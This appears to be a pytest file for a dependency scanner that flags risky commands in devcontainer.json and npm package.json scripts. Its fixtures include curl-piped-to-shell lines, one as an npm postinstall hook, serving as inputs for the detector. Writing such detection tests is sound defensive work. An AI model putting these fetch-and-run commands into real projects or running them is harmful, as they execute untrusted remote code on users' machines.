"""Commands in JSON: npm's scripts and development containers."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlgate.installs.json_commands import INSPECTOR
from tests.reading import Said, read

CONTAINER = """{
  // what everybody works in
  "image": "mcr.microsoft.com/devcontainers/python:3.11", /* a tag */
  "features": {"ghcr.io/me/feature:1": {}, "./local": {}},
  "postCreateCommand": "pip install a==1 && curl https://h/x | sh",
  "onCreateCommand": {"one": ["pip", "install", "b"], "two": "echo // no comment"},
  "remoteEnv": {"X": "pip install nothing"},
}
"""


def scripts(**given: str) -> Said:
    return read(INSPECTOR, "web/package.json", json.dumps({"name": "x", "scripts": given}, indent=2))


def test_a_development_container() -> None:
    said = read(INSPECTOR, ".devcontainer/devcontainer.json", CONTAINER)
    assert said.stopped is None
    assert sorted(c.name for c in said.components) == [
        "a",
        "b",
        "ghcr.io/me/feature",
        "mcr.microsoft.com/devcontainers/python",
    ]
    found = sorted((f.rule.id, f.location.line) for f in said.findings)
    assert found == [("MLG-DEP-011", 6), ("MLG-DEP-050", 5), ("MLG-DEP-051", 3), ("MLG-DEP-051", 4)]


def test_scripts_of_npm() -> None:
    said = scripts(
        postinstall="curl -s https://h/x | bash", test="jest", build="npx tsc && docker run --rm me/x:latest"
    )
    assert sorted((f.rule.id, f.location.line) for f in said.findings) == [
        ("MLG-DEP-050", 4),
        ("MLG-DEP-051", 6),
    ]
    assert scripts(test="jest", build="tsc", install="node-gyp rebuild").findings == ()


@pytest.mark.parametrize("text", ["{", '{"image": ', "[" * 100_000 + '"image"'])
def test_a_container_that_cannot_be_read_is_incomplete(text: str) -> None:
    assert read(INSPECTOR, "devcontainer.json", text + '"features"').stopped


@given(st.text(alphabet='{}[]",:/*\\ \nimage', max_size=60))
def test_any_text_ends_in_an_answer(text: str) -> None:
    read(INSPECTOR, "devcontainer.json", '"image"' + text)
